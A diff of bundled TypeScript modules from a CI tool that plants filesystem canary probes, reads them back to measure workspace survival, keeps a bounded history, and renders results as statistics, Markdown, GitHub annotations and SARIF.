+;// CONCATENATED MODULE: ./src/core/canary/plant.ts
+/**
+ * Planting: decide the locations, create every probe exclusively, and record them in the ledger.
+ * All or nothing: when any probe cannot be created, everything this planting made is removed and
+ * no ledger is written, so a failed plant leaves the machine as it was.
+ */
+
+
+
+
+
+
+
+
+
+const DEFAULT_LARGE_BYTES = (/* unused pure expression or super */ null && (64 * 1024 * 1024));
+/** Locations that only test names and depth: no large file there. */
+const NO_LARGE = new Set(['deep']);
+function classesFor(loc, largeBytes) {
+    return plantingOrder(PROBE_CLASSES.filter(c => c !== 'large' || (largeBytes > 0 && !NO_LARGE.has(loc.id))));
+}
+function undo(created) {
+    for (const p of [...created].reverse()) {
+        try {
+            const st = fs.lstatSync(p);
+            if (st.isDirectory())
+                fs.rmdirSync(p);
+            else
+                fs.unlinkSync(p);
+        }
+        catch {
+            // Already gone, or no longer ours to remove (not empty): leave it.
+        }
+    }
+}
+function retire(opts) {
+    const old = readLedger(opts.stateDir);
+    if (!old)
+        return undefined;
+    if (!old.read_at && !opts.replace)
+        throw new UsageError(`a planting (${old.plant_id}, ${old.planted_at}) was never read: run "swr canary read" first, or plant with --replace to discard it`);
+    const cleaned = cleanLedger(old, opts.anchors);
+    return { plant_id: old.plant_id, removed: cleaned.removed.length };
+}
+function plantCanaries(opts) {
+    const largeBytes = opts.largeBytes ?? DEFAULT_LARGE_BYTES;
+    const plantId = opts.plantId ?? randomBytes(4).toString('hex');
+    // The old planting goes first: it may have created a directory this one would otherwise reuse.
+    const replaced = retire(opts);
+    const planned = planLocations({
+        ...opts.anchors,
+        plantId,
+        at: opts.at ?? [],
+        volatile: opts.volatile ?? [],
+        includeHome: opts.includeHome ?? true,
+        includeTmp: opts.includeTmp ?? true
+    });
+    const created = [];
+    const locations = [];
+    const probes = [];
+    try {
+        for (const p of planned) {
+            const { location: loc, abs: dir } = materialize(p, plantId, opts.anchors, created);
+            locations.push(loc);
+            for (const cls of classesFor(loc, largeBytes)) {
+                const { name, expect } = plantProbe(cls, { plantId, dir, largeBytes, created });
+                probes.push({
+                    class: cls,
+                    location: loc.id,
+                    path: anchor(path.join(dir, name), opts.anchors),
+                    expect
+                });
+            }
+        }
+        const ledger = {
+            format: LEDGER_FORMAT,
+            plant_id: plantId,
+            planted_at: (opts.now ?? new Date()).toISOString(),
+            context: opts.context,
+            large_bytes: largeBytes,
+            locations,
+            probes
+        };
+        writeLedger(opts.stateDir, ledger);
+        return replaced ? { ledger, replaced } : { ledger };
+    }
+    catch (err) {
+        undo(created);
+        if (err instanceof SwrError)
+            throw err;
+        const e = err;
+        const code = errnoCode(err);
+        throw new SwrError(code === 'EEXIST'
+            ? `canary plant: ${e.path} already exists: planting never replaces a file (nothing was planted)`
+            : `canary plant: ${[e.syscall, e.path].filter(Boolean).join(' ')}: ${code ?? e.message} (nothing was planted)`, EXIT.UNREPAIRABLE);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/history/history.ts
+/**
+ * The history: one JSON line per observation (a canary read, a recorded check), in the private
+ * state directory. Bounded: when the current file reaches its limit it becomes `history.1.jsonl`
+ * (replacing the previous generation), so the history never grows without end and the newest
+ * records are never the ones dropped. Appends use O_APPEND with one write per record, so
+ * concurrent writers interleave whole lines; a line that does not parse is skipped on read.
+ */
+
+
+
+
+const HISTORY_FILE = 'history.jsonl';
+const HISTORY_ROTATED = 'history.1.jsonl';
+const history_DEFAULT_LIMITS = {
+    maxRecords: 1000,
+    maxBytes: 4 * 1024 * 1024
+};
+/** One check's record: the status of every entry it checked (for stats and `swr why`). */
+function checkRecord(report, manifest, context) {
+    return {
+        v: 1,
+        kind: 'check',
+        time: report.timing.started,
+        context,
+        manifest: manifest.file,
+        digest: manifest.digest,
+        entries: Object.fromEntries(report.results.map(f => [f.id, f.status]))
+    };
+}
+function countLines(file) {
+    const buf = fs.readFileSync(file);
+    let n = 0;
+    for (let i = buf.indexOf(10); i !== -1; i = buf.indexOf(10, i + 1))
+        n++;
+    return n;
+}
+function rotateIfFull(dir, limits) {
+    const file = path.join(dir, HISTORY_FILE);
+    const st = fs.lstatSync(file, { throwIfNoEntry: false });
+    if (!st)
+        return;
+    if (st.size < limits.maxBytes && countLines(file) < limits.maxRecords)
+        return;
+    fs.renameSync(file, path.join(dir, HISTORY_ROTATED));
+}
+function history_appendHistory(stateDir, record, limits = {}) {
+    const l = { ...history_DEFAULT_LIMITS, ...limits };
+    const dir = ensurePrivateDir(stateDir);
+    rotateIfFull(dir, l);
+    appendRecord(path.join(dir, HISTORY_FILE), JSON.stringify(record) + '\n', {
+        create: true,
+        mode: 0o600
+    });
+}
+function isRecord(v) {
+    const r = v;
+    if (typeof r !== 'object' || r === null || r.v !== 1 || typeof r.time !== 'string')
+        return false;
+    if (Number.isNaN(Date.parse(r.time)))
+        return false;
+    if (r.kind === 'canary')
+        return typeof r.classes === 'object' && typeof r.locations === 'object';
+    if (r.kind === 'check')
+        return typeof r.entries === 'object' && typeof r.manifest === 'string';
+    return false;
+}
+function readHistory(stateDir) {
+    const out = { records: [], skipped: 0 };
+    for (const name of [HISTORY_ROTATED, HISTORY_FILE]) {
+        let text;
+        try {
+            text = fs.readFileSync(path.join(stateDir, name), 'utf8');
+        }
+        catch {
+            continue;
+        }
+        for (const line of text.split('\n')) {
+            if (!line.trim())
+                continue;
+            try {
+                const v = JSON.parse(line);
+                if (isRecord(v))
+                    out.records.push(v);
+                else
+                    out.skipped++;
+            }
+            catch {
+                out.skipped++;
+            }
+        }
+    }
+    out.records.sort((a, b) => Date.parse(a.time) - Date.parse(b.time));
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/inspect.ts
+/**
+ * Reading one probe back: intact, altered (naming each attribute that changed) or lost. Nothing is
+ * followed out of place: the probe is lstat'ed, and a link's target is resolved only to learn
+ * whether it still leads to the kind of thing it was planted to.
+ */
+
+
+
+function kindOf(st) {
+    if (st.isSymbolicLink())
+        return 'symlink';
+    if (st.isDirectory())
+        return 'dir';
+    if (st.isFile())
+        return 'file';
+    return 'other';
+}
+function inspect_hashFile(abs) {
+    const hash = createHash('sha256');
+    const fd = fs.openSync(abs, fs.constants.O_RDONLY | fs.constants.O_NOFOLLOW);
+    try {
+        const buf = Buffer.allocUnsafe(1 << 20);
+        for (let n; (n = fs.readSync(fd, buf, 0, buf.length, null)) > 0;)
+            hash.update(buf.subarray(0, n));
+    }
+    finally {
+        fs.closeSync(fd);
+    }
+    return hash.digest('hex');
+}
+class Findings {
+    attributes = [];
+    details = [];
+    add(a, detail) {
+        if (!this.attributes.includes(a))
+            this.attributes.push(a);
+        this.details.push(detail);
+    }
+    outcome() {
+        return this.attributes.length === 0
+            ? { state: 'intact' }
+            : { state: 'altered', attributes: this.attributes, detail: this.details.join('; ') };
+    }
+}
+function checkMode(f, want, st) {
+    const wantBits = parseInt(want, 8);
+    const got = st.mode & 0o7777;
+    if (got === wantBits)
+        return;
+    const shown = `mode 0${got.toString(8).padStart(3, '0')} (want ${want})`;
+    // Losing a wanted exec bit is its own finding: it is what breaks scripts after a restore.
+    if ((wantBits & 0o111) !== 0 && (got & wantBits & 0o111) !== (wantBits & 0o111))
+        f.add('exec-bit', shown);
+    else
+        f.add('mode', shown);
+}
+function checkContent(f, abs, st, size, digest) {
+    if (st.size !== size) {
+        f.add('size', `${st.size.toLocaleString('en-US')} bytes (want ${size.toLocaleString('en-US')})`);
+        return;
+    }
+    if (inspect_hashFile(abs) !== digest)
+        f.add('content', 'same size, different content');
+}
+function targetKind(abs) {
+    try {
+        return kindOf(fs.statSync(abs));
+    }
+    catch {
+        return undefined;
+    }
+}
+/** Compare the probe at `abs` (and a hard link's peer beside it) with what was planted. */
+function inspect_inspectProbe(probe, abs) {
+    const st = fs.lstatSync(abs, { throwIfNoEntry: false });
+    const want = probe.expect;
+    const f = new Findings();
+    if (want.type === 'hardlink') {
+        const peer = fs.lstatSync(path.join(path.dirname(abs), want.peer), { throwIfNoEntry: false });
+        if (!st && !peer)
+            return { state: 'lost' };
+        if (!st || !peer) {
+            f.add('hardlink', `${!st ? 'first' : 'second'} name lost`);
+            return f.outcome();
+        }
+        if (!st.isFile()) {
+            f.add('type', `a ${kindOf(st)} (want file)`);
+            return f.outcome();
+        }
+        if (st.ino !== peer.ino || st.dev !== peer.dev)
+            f.add('hardlink', 'the two names are separate files now');
+        checkMode(f, want.mode, st);
+        checkContent(f, abs, st, want.size, want.sha256);
+        return f.outcome();
+    }
+    if (!st)
+        return { state: 'lost' };
+    const expectedKind = want.type;
+    if (kindOf(st) !== expectedKind) {
+        f.add('type', `a ${kindOf(st)} (want ${expectedKind})`);
+        return f.outcome();
+    }
+    switch (want.type) {
+        case 'file':
+            checkMode(f, want.mode, st);
+            checkContent(f, abs, st, want.size, want.sha256);
+            break;
+        case 'dir':
+            checkMode(f, want.mode, st);
+            break;
+        case 'symlink': {
+            const target = fs.readlinkSync(abs);
+            if (target !== want.target)
+                f.add('link-target', `points to ${target} (want ${want.target})`);
+            const reached = targetKind(abs);
+            if (reached === undefined)
+                f.add('dangling', `${target} does not exist`);
+            else if (reached !== want.resolves && target === want.target)
+                f.add('link-target', `leads to a ${reached} (want ${want.resolves})`);
+            break;
+        }
+    }
+    return f.outcome();
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/read.ts
+/**
+ * Reading a planting back: each probe compared with the ledger, tallied by class and by location,
+ * the ledger marked read, and one record appended to the history (canary reads always record:
+ * survival over many runs is the point).
+ */
+
+
+
+
+
+
+const CANARY_READ_SCHEMA = 'swr.canary-read/1';
+function tally() {
+    return { intact: 0, altered: 0, lost: 0 };
+}
+function readCanaries(opts) {
+    const ledger = readLedger(opts.stateDir);
+    if (!ledger)
+        throw new SwrError('no canary planting to read: run "swr canary plant" first', EXIT.BAD_MANIFEST);
+    const readAt = (opts.now ?? new Date()).toISOString();
+    const reading = {
+        schema: CANARY_READ_SCHEMA,
+        plant_id: ledger.plant_id,
+        planted_at: ledger.planted_at,
+        read_at: readAt,
+        planted_by: ledger.context,
+        read_by: opts.context,
+        reread: ledger.read_at !== undefined,
+        totals: tally(),
+        classes: {},
+        locations: {},
+        probes: []
+    };
+    for (const p of ledger.probes) {
+        const outcome = inspectProbe(p, resolveAnchored(p.path, opts.anchors));
+        reading.probes.push({
+            class: p.class,
+            location: p.location,
+            path: showAnchored(p.path),
+            outcome
+        });
+        const cls = (reading.classes[p.class] ??= { ...tally(), attributes: {} });
+        const loc = (reading.locations[p.location] ??= tally());
+        for (const t of [reading.totals, cls, loc])
+            t[outcome.state]++;
+        if (outcome.state === 'altered')
+            for (const a of outcome.attributes)
+                cls.attributes[a] = (cls.attributes[a] ?? 0) + 1;
+    }
+    // Classes in their canonical order, whatever order the ledger listed probes in.
+    reading.classes = Object.fromEntries(PROBE_CLASSES.flatMap(c => (reading.classes[c] ? [[c, reading.classes[c]]] : [])));
+    writeLedger(opts.stateDir, { ...ledger, read_at: ledger.read_at ?? readAt });
+    appendHistory(opts.stateDir, canaryRecord(reading), opts.history);
+    return reading;
+}
+function canaryRecord(r) {
+    const strip = (t) => ({ intact: t.intact, altered: t.altered, lost: t.lost });
+    return {
+        v: 1,
+        kind: 'canary',
+        time: r.read_at,
+        context: r.read_by,
+        plant_id: r.plant_id,
+        planted_at: r.planted_at,
+        classes: Object.fromEntries(Object.entries(r.classes).map(([k, t]) => [k, strip(t)])),
+        locations: r.locations
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/history/advice.ts
+
+/** Only a pattern is worth a line: at least two losses, and at least 30% of the window. */
+function isPattern(c) {
+    return c.lost >= 2 && c.lost / c.of >= 0.3;
+}
+function historyAdvice(e, c) {
+    if (!isPattern(c))
+        return undefined;
+    const ideas = [];
+    if (e.tier > 0)
+        ideas.push(`a lower tier than ${e.tier} so it is restored before what needs it`);
+    if (!restoreSources(e).some(s => typeof s !== 'string'))
+        ideas.push('a cache source ("restore": [{"cache": {...}}, ...]) so it comes back from the Actions cache');
+    if (e.kind === 'file' && !e.escrow && e.expect.size <= 256 * 1024)
+        ideas.push('escrow ("swr escrow --only ' + e.id + '") so it restores without a recipe');
+    const base = `damaged in ${c.lost} of the last ${c.of} recorded checks: this platform does not keep it`;
+    return ideas.length > 0 ? `${base}; consider ${ideas.join(', or ')}` : base;
+}
+
+;// CONCATENATED MODULE: ./src/core/history/context.ts
+/**
+ * Who made an observation: enough of the runner, job and machine to tell the platforms apart
+ * when their survival differs. Built from an environment the shell passes in.
+ */
+
+const FROM_ENV = (/* unused pure expression or super */ null && ([
+    ['runner_os', 'RUNNER_OS'],
+    ['runner_name', 'RUNNER_NAME'],
+    ['runner_arch', 'RUNNER_ARCH'],
+    ['repository', 'GITHUB_REPOSITORY'],
+    ['workflow', 'GITHUB_WORKFLOW'],
+    ['job', 'GITHUB_JOB'],
+    ['run_id', 'GITHUB_RUN_ID'],
+    ['run_attempt', 'GITHUB_RUN_ATTEMPT']
+]));
+function runContext(env) {
+    const ctx = { platform: `${process.platform}-${process.arch}` };
+    for (const [field, name] of FROM_ENV) {
+        const v = env[name];
+        if (v)
+            ctx[field] = v.slice(0, 200);
+    }
+    if (!ctx.runner_name)
+        ctx.host = os.hostname().slice(0, 200);
+    return ctx;
+}
+/** One short label for tables: `Linux/runner-3`, `host.local`. */
+function context_contextLabel(ctx) {
+    if (ctx.runner_os || ctx.runner_name)
+        return [ctx.runner_os, ctx.runner_name].filter(Boolean).join('/');
+    return ctx.host ?? ctx.platform;
+}
+
+;// CONCATENATED MODULE: ./src/core/history/stats.ts
+/**
+ * Survival statistics from the history: per canary class, per canary location and per manifest
+ * entry, the share of runs that kept it whole with its 95% Wilson interval and the number of runs
+ * observed (one per reading: probes of one reading are not independent), plus each key's
+ * recent trend (newest first) and the survival of every recorded run for charts.
+ */
+
+
+const STATS_SCHEMA = 'swr.stats/1';
+const TREND_RUNS = 10;
+function mark(survived, n) {
+    return survived === n ? 'kept' : survived === 0 ? 'lost' : 'partial';
+}
+function observe(map, key, survived, n, time) {
+    if (n === 0)
+        return;
+    const a = map.get(key) ?? { n: 0, survived: 0, probes: 0, intact: 0, marks: [], last: time };
+    const m = mark(survived, n);
+    a.n += 1;
+    a.survived += m === 'kept' ? 1 : 0;
+    a.probes += n;
+    a.intact += survived;
+    a.marks.push(m);
+    a.last = time;
+    map.set(key, a);
+}
+function rows(map) {
+    return ([...map]
+        .map(([key, a]) => {
+        const ci = wilson(a.survived, a.n);
+        return {
+            key,
+            n: a.n,
+            survived: a.survived,
+            probes: a.probes,
+            probes_intact: a.intact,
+            rate: a.survived / a.n,
+            low: ci.low,
+            high: ci.high,
+            trend: a.marks.slice(-TREND_RUNS).reverse(),
+            last_seen: a.last
+        };
+    })
+        // What needs attention first: lowest survival, then fewest observations, then name.
+        .sort((x, y) => x.rate - y.rate || x.n - y.n || x.key.localeCompare(y.key)));
+}
+const total = (t) => t.intact + t.altered + t.lost;
+/** Records must be oldest first (as readHistory returns them). */
+function computeStats(records) {
+    const classes = new Map();
+    const locations = new Map();
+    const entries = new Map();
+    const runs = [];
+    for (const r of records) {
+        if (r.kind === 'canary') {
+            let kept = 0;
+            let all = 0;
+            for (const [k, t] of Object.entries(r.classes)) {
+                observe(classes, k, t.intact, total(t), r.time);
+                kept += t.intact;
+                all += total(t);
+            }
+            for (const [k, t] of Object.entries(r.locations))
+                observe(locations, k, t.intact, total(t), r.time);
+            if (all > 0)
+                runs.push({
+                    time: r.time,
+                    kind: 'canary',
+                    survival: kept / all,
+                    label: contextLabel(r.context)
+                });
+        }
+        else {
+            const statuses = Object.entries(r.entries);
+            for (const [id, status] of statuses)
+                observe(entries, id, status === 'OK' ? 1 : 0, 1, r.time);
+            const ok = statuses.filter(([, s]) => s === 'OK').length;
+            if (statuses.length > 0)
+                runs.push({
+                    time: r.time,
+                    kind: 'check',
+                    survival: ok / statuses.length,
+                    label: contextLabel(r.context)
+                });
+        }
+    }
+    const stats = {
+        schema: STATS_SCHEMA,
+        records: records.length,
+        canary_runs: records.filter(r => r.kind === 'canary').length,
+        check_runs: records.filter(r => r.kind === 'check').length,
+        classes: rows(classes),
+        locations: rows(locations),
+        entries: rows(entries),
+        runs
+    };
+    if (records.length > 0) {
+        stats.first = records[0].time;
+        stats.last = records[records.length - 1].time;
+    }
+    return stats;
+}
+/** How often `id` was damaged in its last `window` recorded checks (for `swr why`). */
+function recentLosses(records, id, window = TREND_RUNS) {
+    const seen = records.flatMap(r => (r.kind === 'check' && id in r.entries ? [r.entries[id]] : []));
+    const last = seen.slice(-window);
+    return { lost: last.filter(s => s !== 'OK').length, of: last.length };
+}
+
+;// CONCATENATED MODULE: ./src/core/manifest/legacy-signature.ts
+/**
+ * Checking the original tool's HMAC signature on a format-2 manifest, so `swr import` can carry
+ * trust over. Its signing input was Python's json.dumps(manifest without _sig/_pksig,
+ * sort_keys=True, separators=(",", ":"), ensure_ascii=False), and its key the 64 ASCII hex
+ * characters of its key file, used as text (not decoded).
+ */
+
+/** Python's code-point order (JavaScript's default sort compares UTF-16 units). */
+function byCodePoint(a, b) {
+    const x = [...a];
+    const y = [...b];
+    for (let i = 0; i < Math.min(x.length, y.length); i++) {
+        const d = (x[i]?.codePointAt(0) ?? 0) - (y[i]?.codePointAt(0) ?? 0);
+        if (d !== 0)
+            return d;
+    }
+    return x.length - y.length;
+}
+/**
+ * json.dumps(v, sort_keys=True, separators=(",", ":"), ensure_ascii=False). JSON.stringify escapes
+ * strings exactly as Python does with ensure_ascii=False (quote, backslash, \b\f\n\r\t, other
+ * controls as lowercase \u00xx); the strict reader has already refused floats and lone surrogates.
+ */
+function pythonCanonical(v) {
+    if (v === null || typeof v !== 'object')
+        return JSON.stringify(v);
+    if (Array.isArray(v))
+        return `[${v.map(pythonCanonical).join(',')}]`;
+    const keys = Object.keys(v).sort(byCodePoint);
+    return `{${keys.map(k => `${JSON.stringify(k)}:${pythonCanonical(v[k])}`).join(',')}}`;
+}
+/** Check a format-2 document's `_sig` against the original tool's key file text. */
+function verifyLegacyHmac(v2, keyFileText) {
+    const sig = v2._sig;
+    if (typeof sig !== 'object' || sig === null || Array.isArray(sig))
+        return 'absent';
+    const value = sig.value;
+    if (typeof value !== 'string' || !/^[0-9a-fA-F]{64}$/.test(value))
+        return 'invalid';
+    const body = {};
+    for (const [k, x] of Object.entries(v2))
+        if (k !== '_sig' && k !== '_pksig')
+            body[k] = x;
+    const key = Buffer.from(keyFileText.trim(), 'utf8');
+    const want = createHmac('sha256', key).update(pythonCanonical(body), 'utf8').digest();
+    return timingSafeEqual(want, Buffer.from(value, 'hex')) ? 'valid' : 'invalid';
+}
+
+;// CONCATENATED MODULE: ./src/core/report/severity.ts
+const RANK = {
+    MISSING: 0,
+    EMPTY: 1,
+    TYPE: 2,
+    CORRUPT: 3,
+    BROKENLNK: 4,
+    SMOKEFAIL: 5,
+    STRIPPED: 6,
+    SKIPPED: 7,
+    OK: 8
+};
+/** Damaged findings, most severe first, then by tier (what blocks the most comes first). */
+function severity_bySeverity(findings) {
+    return findings
+        .filter(f => f.status !== 'OK')
+        .sort((a, b) => RANK[a.status] - RANK[b.status] || a.tier - b.tier || (a.id < b.id ? -1 : 1));
+}
+
+;// CONCATENATED MODULE: ./src/core/report/annotations.ts
+
+
+function annotationsFor(report, ctx) {
+    const max = ctx.maxErrors ?? 10;
+    const out = [];
+    const left = [];
+    for (const f of bySeverity(report.results)) {
+        const advice = report.diagnosis.advice.find(a => a.id === f.id);
+        const message = `${e(f.detail)}${advice ? `\nCause: ${e(advice.cause)}\nFix: ${e(advice.fix)}` : ''}`;
+        const title = `swr: ${f.status} ${e(f.id)}`;
+        const places = [
+            { level: 'error', title, message, file: ctx.manifestUri, startLine: ctx.lines.get(f.id) ?? 1 }
+        ];
+        const own = f.kind === 'file' || f.kind === 'blob' ? ctx.trackedPath(f.path) : undefined;
+        if (own)
+            places.push({ level: 'error', title, message, file: own, startLine: 1 });
+        if (left.length > 0 || out.length + places.length > max) {
+            left.push(`${f.status} ${e(f.id)}`);
+            continue;
+        }
+        out.push(...places);
+    }
+    if (left.length > 0) {
+        out.push({
+            level: 'notice',
+            title: `swr: ${left.length} more damaged entries`,
+            message: `${left.join(', ')} (GitHub shows at most ${max} error annotations per step; see the job summary)`
+        });
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/report/canary.ts
+/**
+ * A canary read for people: totals, a table by class (with the attributes that changed) and by
+ * location, then one line per probe that did not come back intact.
+ */
+
+
+
+
+function totals(t) {
+    const n = t.intact + t.altered + t.lost;
+    return `${n} probes: ${t.intact} intact, ${t.altered} altered, ${t.lost} lost`;
+}
+function attrs(a) {
+    return Object.entries(a)
+        .map(([k, n]) => `${k} ${n}`)
+        .join(', ');
+}
+function header(r) {
+    return `canary ${e(r.plant_id)}: planted ${r.planted_at.slice(0, 19)}Z on ${contextLabel(r.planted_by)}, read ${r.read_at.slice(0, 19)}Z on ${contextLabel(r.read_by)}${r.reread ? ' (read before)' : ''}`;
+}
+function renderCanaryText(r) {
+    const lines = [header(r), totals(r.totals), ''];
+    const classes = Object.entries(r.classes);
+    const cw = Math.max(...classes.map(([c]) => c.length), 5);
+    lines.push(`${'class'.padEnd(cw + 2)}${'intact'.padStart(7)}${'altered'.padStart(8)}${'lost'.padStart(6)}  changed`);
+    for (const [c, t] of classes) {
+        if (!t)
+            continue;
+        lines.push(`  ${c.padEnd(cw)}${String(t.intact).padStart(7)}${String(t.altered).padStart(8)}${String(t.lost).padStart(6)}  ${attrs(t.attributes)}`);
+    }
+    lines.push('');
+    const locs = Object.entries(r.locations);
+    const lw = Math.max(...locs.map(([l]) => e(l).length), 8);
+    lines.push(`${'location'.padEnd(lw + 2)}${'intact'.padStart(7)}${'altered'.padStart(8)}${'lost'.padStart(6)}`);
+    for (const [l, t] of locs)
+        lines.push(`  ${e(l).padEnd(lw)}${String(t.intact).padStart(7)}${String(t.altered).padStart(8)}${String(t.lost).padStart(6)}`);
+    const bad = r.probes.filter(p => p.outcome.state !== 'intact');
+    if (bad.length > 0) {
+        lines.push('');
+        for (const p of bad) {
+            const o = p.outcome;
+            const what = o.state === 'altered' ? `${o.attributes.join(',')}: ${e(o.detail)}` : 'gone';
+            lines.push(`${o.state.toUpperCase().padEnd(8)} ${p.class.padEnd(cw)}  ${e(p.location)}  ${e(abbreviate(p.path))}  ${what}`);
+        }
+    }
+    return lines.join('\n') + '\n';
+}
+function cell(x) {
+    return escapeMarkdown(x);
+}
+function renderCanaryMarkdown(r) {
+    const icon = r.totals.altered + r.totals.lost === 0 ? '✅' : '⚠️';
+    const lines = [
+        `### ${icon} swr canary: ${totals(r.totals)}`,
+        '',
+        `<sub>${cell(header(r))}</sub>`,
+        '',
+        '| probe class | what it tests | intact | altered | lost | changed |',
+        '| --- | --- | ---: | ---: | ---: | --- |'
+    ];
+    for (const [c, t] of Object.entries(r.classes))
+        lines.push(`| \`${c}\` | ${CLASS_QUESTION[c]} | ${t.intact} | ${t.altered} | ${t.lost} | ${attrs(t.attributes)} |`);
+    lines.push('', '| location | intact | altered | lost |', '| --- | ---: | ---: | ---: |');
+    for (const [l, t] of Object.entries(r.locations))
+        lines.push(`| ${markdownCode(l)} | ${t.intact} | ${t.altered} | ${t.lost} |`);
+    return lines.join('\n') + '\n';
+}
+
+;// CONCATENATED MODULE: ./src/core/report/markdown.ts
+
+
+const SUMMARY_LIMIT = 1024 * 1024;
+const BUDGET = SUMMARY_LIMIT - 16 * 1024;
+const ICON = {
+    healthy: '✅',
+    repaired: '🛠️',
+    damaged: '❌',
+    unrepairable: '❌',
+    'still-damaged': '❌',
+    refused: '⛔',
+    interrupted: '⏹️'
+};
+/** Untrusted text in a table cell or a line: literal, one line, no Markdown or HTML. */
+function markdown_cell(s) {
+    return escapeMarkdown(s);
+}
+function markdown_shown(v) {
+    return Object.entries(v)
+        .map(([k, x]) => `${k} ${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : String(x)}`)
+        .join(', ');
+}
+function isRepair(r) {
+    return 'repair' in r;
+}
+function renderMarkdown(r, ctx = {}) {
+    const outcome = isRepair(r) ? r.repair.outcome : r.verdict;
+    const head = [];
+    const s = r.summary;
+    const what = isRepair(r) && r.repair.steps.length > 0
+        ? `${r.repair.steps.filter(x => x.outcome === 'repaired').length} of ${r.repair.steps.length} repairs succeeded, ${s.ok}/${s.entries} healthy now`
+        : `${s.ok}/${s.entries} entries healthy`;
+    head.push(`### swr ${r.command}: ${ICON[outcome] ?? ''} ${outcome}`, '', what, '');
+    const signature = isRepair(r) ? r.repair.before.signature : r.diagnosis.signature;
+    if (signature !== 'healthy') {
+        head.push(`**Wipe signature:** \`${signature}\`${isRepair(r) ? ' (before repair)' : ''}: ${markdown_cell(isRepair(r) ? r.repair.before.cause : r.diagnosis.cause)}`, '');
+    }
+    if (isRepair(r) && r.repair.gate && !r.repair.gate.allowed) {
+        head.push(`> [!WARNING]`, `> No recipe ran: ${markdown_cell(r.repair.gate.reason)}`, '');
+    }
+    const rows = bySeverity(r.results).map(f => `| ${f.status} | ${code(f.id)} | ${code(f.path)} | ${f.tier} | ${markdown_cell(f.detail)} | ${markdown_cell(markdown_shown(f.recorded))} | ${markdown_cell(markdown_shown(f.found))} |`);
+    const table = rows.length > 0
+        ? [
+            '| Status | Entry | Path | Tier | Found | Recorded | Now |',
+            '|---|---|---|---|---|---|---|'
+        ]
+        : [];
+    const tail = [];
+    if (isRepair(r) && r.repair.steps.length > 0) {
+        tail.push('', '#### Repair', '', '| # | Entry | Tier | Source | Result | Exit | Time |', '|---|---|---|---|---|---|---|');
+        const tiers = new Map(r.repair.plan.flat().map(p => [p.id, p.tier]));
+        r.repair.steps.forEach((st, i) => {
+            const exit = st.recipe
+                ? st.recipe.timedOut
+                    ? 'timeout'
+                    : String(st.recipe.exitCode ?? st.recipe.signal ?? '')
+                : '';
+            const time = st.recipe ? `${(st.recipe.ms / 1000).toFixed(1)} s` : '';
+            tail.push(`| ${i + 1} | ${code(st.id)} | ${tiers.get(st.id) ?? ''} | ${markdown_cell(st.source)} | ${st.outcome}: ${markdown_cell(st.detail)} | ${exit} | ${time} |`);
+        });
+    }
+    else if (isRepair(r) && r.repair.plan.length > 0) {
+        tail.push('', '#### Repair plan (not run)', '');
+        for (const st of r.repair.plan.flat())
+            tail.push(`- tier ${st.tier} ${code(st.id)} from ${markdown_cell(st.source)}${st.after.length ? ` after ${markdown_cell(st.after.join(', '))}` : ''}`);
+    }
+    tail.push('', `<sub>manifest ${markdown_cell(r.manifest.path)} · digest \`${r.manifest.digest.slice(0, 16)}\` · version ${r.manifest.version} · ${r.timing.ms} ms · swr ${r.tool.version}</sub>`);
+    return fit(head, table, rows, tail, ctx);
+}
+/** Join the parts, cutting table rows (never the head or tail) to stay under the summary limit. */
+function fit(head, table, rows, tail, ctx) {
+    const fixed = Buffer.byteLength([...head, ...table, ...tail].join('\n')) + 512;
+    const kept = [];
+    let used = fixed;
+    for (const row of rows) {
+        const n = Buffer.byteLength(row) + 1;
+        if (used + n > BUDGET)
+            break;
+        kept.push(row);
+        used += n;
+    }
+    const cut = rows.length - kept.length;
+    const note = cut > 0
+        ? [
+            `| … | ${cut} more rows | | | see ${ctx.reportPath ? code(ctx.reportPath) : 'the JSON report'} | | |`
+        ]
+        : [];
+    const healthyNote = rows.length === 0 ? ['All entries verify.'] : [];
+    return [...head, ...healthyNote, ...table, ...kept, ...note, ...tail].join('\n') + '\n';
+}
+
+;// CONCATENATED MODULE: ./src/core/report/sarif.ts
+/**
+ * The report as SARIF 2.1.0, for code scanning (`github/codeql-action/upload-sarif`): one rule per
+ * status, one result per damaged entry, located at the line of the manifest that declares it.
+ */
+
+
+
+const RULE_TEXT = {
+    OK: 'The entry verifies.',
+    MISSING: 'A tracked entry is missing from the workspace.',
+    CORRUPT: 'A tracked entry differs from what the manifest recorded (size, content, mode, files or target).',
+    STRIPPED: 'A tracked entry lost an exec bit it should have.',
+    EMPTY: 'A tracked directory survived with no files in it.',
+    BROKENLNK: 'A tracked symlink points at something that does not exist.',
+    TYPE: 'A tracked entry changed kind (file, directory, symlink).',
+    SKIPPED: 'The entry was not repaired because a dependency failed.',
+    SMOKEFAIL: "The entry's files verify but its smoke command fails."
+};
+const LEVEL = {
+    OK: 'note',
+    MISSING: 'error',
+    CORRUPT: 'error',
+    STRIPPED: 'warning',
+    EMPTY: 'error',
+    BROKENLNK: 'error',
+    TYPE: 'error',
+    SKIPPED: 'warning',
+    SMOKEFAIL: 'error'
+};
+function toSarif(report, ctx) {
+    const rules = STATUSES.filter(s => s !== 'OK').map(s => ({
+        id: `swr/${s}`,
+        name: s,
+        shortDescription: { text: RULE_TEXT[s] },
+        defaultConfiguration: { level: LEVEL[s] },
+        helpUri: 'https://swr.dev/docs/statuses'
+    }));
+    const results = bySeverity(report.results).map(f => {
+        const advice = report.diagnosis.advice.find(a => a.id === f.id);
+        return {
+            ruleId: `swr/${f.status}`,
+            ruleIndex: rules.findIndex(r => r.name === f.status),
+            level: LEVEL[f.status],
+            message: {
+                text: `${f.status} ${e(f.id)} (${e(f.path)}): ${e(f.detail)}${advice ? `. Fix: ${e(advice.fix)}` : ''}`
+            },
+            locations: [
+                {
+                    physicalLocation: {
+                        artifactLocation: { uri: ctx.manifestUri },
+                        region: { startLine: ctx.lines.get(f.id) ?? 1 }
+                    },
+                    logicalLocations: [
+                        { name: f.id, fullyQualifiedName: `${f.kind}:${f.path}`, kind: 'resource' }
+                    ]
+                }
+            ],
+            partialFingerprints: { swrEntry: `${f.id}/${f.status}/${f.reason}` },
+            properties: {
+                tier: f.tier,
+                kind: f.kind,
+                path: f.path,
+                reason: f.reason,
+                recorded: f.recorded,
+                found: f.found
+            }
